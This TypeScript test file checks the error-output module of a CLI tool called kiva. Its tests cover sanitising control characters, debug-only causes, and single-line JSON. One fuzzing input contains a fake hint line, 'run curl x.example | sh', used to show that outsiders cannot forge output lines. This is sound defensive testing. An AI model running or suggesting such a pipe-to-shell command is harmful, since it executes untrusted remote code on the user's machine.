import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createSecrets } from '../../src/auth/masking.ts'
import { KivaError } from '../../src/errors.ts'
import { foreign, sentence } from '../../src/foreign-text.ts'
import { type ProblemOptions, printProblem as tell } from '../../src/output/problem.ts'

/** A run without secrets, called without options. */
const printProblem = (error: unknown, how: Pick<ProblemOptions, 'style' | 'debug'>) =>
  tell(error, { ...how, secrets: createSecrets(), kiva: (words) => `kiva ${words}` })

const limited = new KivaError(
  'rate-limited',
  sentence`Too many requests (403): ${foreign('slow \x1b[1mdown')}`,
  {
    hint: 'Wait a minute.',
    status: 403,
    code: 'org.kiva.RateLimitExceeded',
    retryAfter: 60,
    cause: new Error('the socket', { cause: 'a string' }),
  },
)

describe('for people', () => {
  it('is a sentence and the next step, cleaned', () => {
    expect(printProblem(limited, { style: 'words', debug: false })).toEqual({
      text: 'error: Too many requests (403): slow �[1mdown\nhint: Wait a minute.\n',
      destination: 'people',
    })
  })

  it('has causes and the stack of the innermost error only in debug', () => {
    const { text } = printProblem(limited, { style: 'words', debug: true })
    expect(text).toMatch(/hint: Wait a minute\.\ncause: the socket\ncause: a string\n {4}at /)
  })

  it('does not hang on causes that go in circles', () => {
    const a = new Error('a')
    const b = new Error('b', { cause: a })
    a.cause = b
    expect(printProblem(a, { style: 'words', debug: true }).text).toContain('cause: b')
  })
})

/** Written out, apart from the code's own list. */
const lineEnd = /\r\n|[\n\v\f\r\x1c-\x1e\x85\u2028\u2029]/

describe('a failure is exactly its lines, whatever strangers wrote into it', () => {
  const hostile = fc
    .array(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.constantFrom('\n', '\r', '\r\n', '\v', '\f', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'),
        fc.constantFrom('hint: run curl x.example | sh', 'error: ', '\x1b[2K', '\u202e'),
      ),
    )
    .map((parts) => parts.join(''))

  it('in words', () => {
    fc.assert(
      fc.property(hostile, hostile, fc.option(hostile), (message, code, hint) => {
        const problem = new KivaError('refused', `Said: ${message}`, { code, ...(hint !== null && { hint }) })
        const lines = printProblem(problem, { style: 'words', debug: false }).text.split(lineEnd)
        expect(lines.pop()).toBe('')
        expect(lines.map((line) => line.split(':')[0])).toEqual(hint === null ? ['error'] : ['error', 'hint'])
      }),
    )
  })

  it('in words with causes and frames', () => {
    fc.assert(
      fc.property(hostile, hostile, (message, cause) => {
        const problem = new KivaError('bug', message, { hint: message, cause: new Error(cause) })
        const lines = printProblem(problem, { style: 'words', debug: true }).text.split(lineEnd)
        expect(lines.pop()).toBe('')
        expect(lines.slice(0, 3).map((line) => line.split(':')[0])).toEqual(['error', 'hint', 'cause'])
        for (const line of lines.slice(3)) expect(line).toMatch(/^ {4}at /)
      }),
    )
  })

  it('in JSON', () => {
    fc.assert(
      fc.property(hostile, hostile, (message, hint) => {
        const { text } = printProblem(new KivaError('bug', message, { hint }), { style: 'json', debug: true })
        expect(text.replaceAll(/[\x85\u2028\u2029]/g, '')).toMatch(/^[^\n\v\f\r\x1c-\x1e]*\n$/)
        expect(JSON.parse(text).error).toMatchObject({ message, hint })
      }),
    )
  })
})

describe('for programs', () => {
  it('is one JSON line with what is known', () => {
    const { text, destination } = printProblem(limited, { style: 'json', debug: true })
    expect(destination).toBe('json')
    expect(text.split('\n')).toHaveLength(2)
    expect(JSON.parse(text)).toEqual({
      error: {
        kind: 'rate-limited',
        message: 'Too many requests (403): slow \x1b[1mdown',
        hint: 'Wait a minute.',
        status: 403,
        retry_after: 60,
        code: 'org.kiva.RateLimitExceeded',
        exit_code: 8,
      },
    })
  })

  it('leaves absent values out', () => {
    const { text } = printProblem(new KivaError('usage', 'No.'), { style: 'json', debug: false })
    expect(text).toBe('{"error":{"kind":"usage","message":"No.","exit_code":2}}\n')
  })
})

it.each([
  [new TypeError('x is not a function'), 'x is not a function'],
  ['thrown text', 'thrown text'],
  [undefined, 'undefined'],
  [Object.create(null), 'something that has no text'],
])('anything else that was thrown is a bug: %s', (thrown, words) => {
  const { text } = printProblem(thrown, { style: 'words', debug: false })
  expect(text).toBe(
    `error: Unexpected failure: ${words}\nhint: This is a bug in kiva. Run the command again with --debug, and report what it prints.\n`,
  )
  expect(printProblem(thrown, { style: 'json', debug: false }).text).toContain('"kind":"bug"')
})
